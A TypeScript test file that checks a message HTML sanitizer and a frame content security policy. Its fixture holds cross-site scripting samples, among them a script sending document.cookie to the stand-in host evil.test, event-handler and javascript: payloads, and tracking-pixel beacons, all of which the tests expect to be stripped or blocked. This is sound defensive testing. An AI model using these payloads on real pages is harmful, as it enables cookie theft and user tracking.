import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { sanitizeMessageHtml } from './sanitize.ts';
import { frameCsp } from './message-frame.ts';

const HOSTILE = [
  '<p onclick="steal()">Hi <b>Bob</b></p>',
  '<script>fetch("http://evil.test/" + document.cookie)</script>',
  '<img src="x" onerror="alert(1)">',
  '<img src="http://127.0.0.1:9/pixel.png" alt="pixel">',
  '<img src="//evil.test/p.gif">',
  '<a href="javascript:alert(1)">click</a> <a href="https://example.test/">ok</a>',
  '<iframe src="http://evil.test/"></iframe><form action="http://evil.test/"><input name="p"></form>',
  '<div style="background: url(http://evil.test/bg.png); color: red">styled</div>',
  '<style>body { background: url(http://evil.test/s.png) }</style>',
  '<svg><script>alert(1)</script></svg><object data="x"></object>',
].join('\n');

describe('sanitizeMessageHtml', () => {
  it('removes scripts, handlers, frames, forms and javascript: links', () => {
    const { html } = sanitizeMessageHtml(HOSTILE, { remoteImages: false });
    for (const bad of ['<script', 'onerror', 'onclick', 'javascript:', '<iframe', '<form', '<input', '<style', '<svg', '<object', 'url(']) {
      assert.ok(!html.toLowerCase().includes(bad), `${bad} survived: ${html}`);
    }
    assert.match(html, /<b>Bob<\/b>/u);
    assert.match(html, /<a href="https:\/\/example\.test\/" target="_blank" rel="noopener noreferrer">ok<\/a>/u);
    assert.match(html, /color:red/u);
  });

  it('blocks remote images until asked, and counts them', () => {
    const blocked = sanitizeMessageHtml(HOSTILE, { remoteImages: false });
    assert.equal(blocked.blockedImages, 2);
    assert.ok(!/(?<!-)src="(https?:)?\/\//u.test(blocked.html), blocked.html);
    assert.match(blocked.html, /data-blocked-src="http:\/\/127\.0\.0\.1:9\/pixel\.png"/u);
    const shown = sanitizeMessageHtml(HOSTILE, { remoteImages: true });
    assert.match(shown.html, /src="http:\/\/127\.0\.0\.1:9\/pixel\.png"/u);
    assert.equal(shown.blockedImages, 0);
  });

  it('drops image sources that point nowhere, keeps inline cid: images as data: URIs', () => {
    const { html } = sanitizeMessageHtml('<img src="x"><img src="cid:logo@x"><img src="data:text/html;base64,PHNjcmlwdD4=">', {
      remoteImages: false,
      inline: [{ contentId: '<logo@x>', contentType: 'image/png', content: Buffer.from('png') }],
    });
    assert.ok(!html.includes('src="x"'));
    assert.ok(!html.includes('text/html'));
    assert.match(html, /src="data:image\/png;base64,cG5n"/u);
  });

  it('the frame policy allows no scripts and remote images only when asked', () => {
    assert.match(frameCsp(false), /default-src 'none'/u);
    assert.match(frameCsp(false), /img-src data:;/u);
    assert.doesNotMatch(frameCsp(false), /script-src/u);
    assert.match(frameCsp(true), /img-src data: http: https:/u);
  });
});
